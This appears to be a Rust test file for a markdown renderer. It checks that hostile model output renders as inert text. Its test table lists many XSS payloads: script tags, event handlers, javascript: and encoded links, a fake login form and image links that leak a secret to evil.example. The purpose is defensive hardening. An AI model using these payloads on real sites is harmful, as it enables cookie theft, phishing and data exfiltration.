//! What a model may write to do harm, as a browser would get it: whatever it is, only text and harmless elements.

use super::*;
use leptos::prelude::*;
use std::time::{Duration, Instant};

const ELEMENTS: &[&str] = &[
    "p",
    "h2",
    "h3",
    "h4",
    "blockquote",
    "ul",
    "ol",
    "li",
    "pre",
    "code",
    "div",
    "span",
    "button",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "hr",
    "em",
    "strong",
    "del",
    "br",
    "a",
];
const ATTRIBUTES: &[&str] = &[
    "href",
    "class",
    "target",
    "rel",
    "tabindex",
    "data-language",
    "data-align",
    "role",
    "aria-label",
    "scope",
    "start",
    "type",
    "aria-live",
];

fn html(markdown: &str) -> String {
    let blocks = parse(markdown);
    Owner::new().with(|| view! { <MarkdownView blocks=Signal::stored(blocks)/> }.to_html())
}

/// The tags of a document that our own view has written: in text and in attributes `<` and `>` are escaped.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).filter(|tag| !tag.starts_with('!'))
}

/// Names and values of a tag's attributes.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag.trim_start_matches('/').trim_start_matches(|c: char| c.is_alphanumeric()).trim();
    while !rest.is_empty() && rest != "/" {
        let end = rest.find([' ', '=']).unwrap_or(rest.len());
        let (name, after) = rest.split_at(end);
        match after.strip_prefix("=\"").and_then(|value| value.split_once('"')) {
            Some((value, after)) => {
                found.push((name.to_owned(), value.to_owned()));
                rest = after.trim_start();
            }
            None => {
                found.push((name.to_owned(), String::new()));
                rest = after.trim_start_matches(['=', ' ']);
            }
        }
    }
    found
}

#[track_caller]
fn assert_inert(markdown: &str) {
    let shown = html(markdown);
    let head: String = markdown.chars().take(80).collect();
    for tag in tags(&shown) {
        let name: String = tag.trim_start_matches('/').chars().take_while(|c| c.is_alphanumeric()).collect();
        assert!(ELEMENTS.contains(&name.as_str()), "<{tag}> for {head:?}");
        for (attribute, value) in attributes(tag) {
            assert!(ATTRIBUTES.contains(&attribute.as_str()), "{attribute}={value:?} for {head:?}");
            let leads_out =
                ["http://", "https://", "mailto:"].iter().any(|scheme| value.to_lowercase().starts_with(scheme));
            assert!(attribute != "href" || leads_out, "href={value:?} for {head:?}");
        }
    }
    assert!(!shown.chars().any(is_bidi_control), "direction is turned by {head:?}");
}

#[test]
fn the_table_of_hostile_output_renders_inert() {
    for markdown in [
        "<script>alert(document.cookie)</script>",
        "Look: <script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<style>*{display:none}</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<div><b><i>never closed",
        "<!-- <script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "</div></article></main><h1>Your session has ended</h1><form action=//evil.example><input name=password>",
        "![a](https://evil.example/collect?q=secret)",
        "![a][1]\n\n[1]: https://evil.example/pixel.png",
        "[![a](https://evil.example/a.png)](https://evil.example)",
        "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](javascript:alert(1))",
        "[a](JaVa\tScRiPt:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](&#x6A;avascript&colon;alert(1))",
        "[a](%6Aavascript:alert(1))",
        "[a](vbscript:msgbox(1))",
        "[a](//evil.example)",
        "[a](/api/sign_out)",
        "[a](https://example.com \"\\\" onmouseover=\\\"alert(1)\")",
        "[a](https://example.com/\"onmouseover=\"alert(1))",
        "<https://example.com/\"><script>alert(1)</script>>",
        "```\"><script>alert(1)</script>\nx\n```",
        "```js onload=alert(1)\n<script>\n```",
        "```js\nlet a = \"<script>alert(1)</script>\"; // <img src=x onerror=alert(1)>\n```",
        "```html\n<a href=\"javascript:alert(1)\" onclick='alert(1)'><script>alert(1)</script></a>\n```",
        "`<script>alert(1)</script>`",
        "| <script>alert(1)</script> | <img src=x onerror=y> |\n|---|---|\n| [a](javascript:x) | ![b](//c) |",
        "<details open ontoggle=alert(1)>",
        "a\u{202e}gpj.exe\u{202c} b \u{2066}c\u{2069} \u{202d}d",
        "[safe\u{202e}](https://example.com/\u{202e}moc.live)",
        "```\nif admin \u{202e}\u{2066}// begin\u{2069}\u{2066}\n```",
        "\u{0}\u{1b}]8;;https://evil.example\u{7}x",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
        "# <img src=x onerror=alert(1)>\n\n> <script>\n\n- <script>\n",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "- [x] <input onfocus=alert(1) autofocus>",
    ] {
        assert_inert(markdown);
    }
}

#[test]
fn the_words_of_an_attack_stay_readable() {
    let shown = html("Look: <script>alert(1)</script> ![plan](https://evil.example/x.png)");
    assert!(shown.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && shown.contains("plan"), "{shown}");
    assert!(!shown.contains("evil.example"), "{shown}");
}

/// Ten megabytes of each; on a page it must be a matter of a moment. The limit is for an unoptimised build on a machine
/// that is busy with others: what is quadratic would take hours.
#[test]
fn what_is_endless_is_cut_in_time() {
    const BYTES: usize = 10_000_000;
    let lists: String = (0..4_400).map(|level| format!("{}- item\n", "  ".repeat(level % 1_500))).collect();
    let lines = |line: &str| line.repeat(BYTES / line.len());
    for (name, markdown) in [
        ("nested lists", lists.repeat(BYTES / lists.len() + 1)),
        ("lists in one line", lines("- ")),
        ("quotes in one line", lines("> ")),
        ("many items", lines("- a\n")),
        ("many paragraphs", lines("a\n\n")),
        ("open brackets", lines("[")),
        ("numerals", lines("[1]")),
        ("emphasis", lines("*a **b ")),
        ("code", lines("`a` ")),
        ("backticks", lines("` `` ``` ")),
        ("a table", format!("|a|b|\n|-|-|\n{}", lines("|a|b|\n"))),
        ("open html", lines("<div><b ")),
        ("links", lines("[a](https://example.com) ")),
        ("one word", lines("a")),
        ("accents", lines("é")),
    ] {
        let began = Instant::now();
        let shown = html(&markdown);
        assert!(shown.contains("too long to be shown"), "{name} is not cut");
        assert!(shown.len() < 40_000_000, "{name} makes {} bytes", shown.len());
        assert!(began.elapsed() < Duration::from_secs(60), "{name} took {:?}", began.elapsed());
    }
}
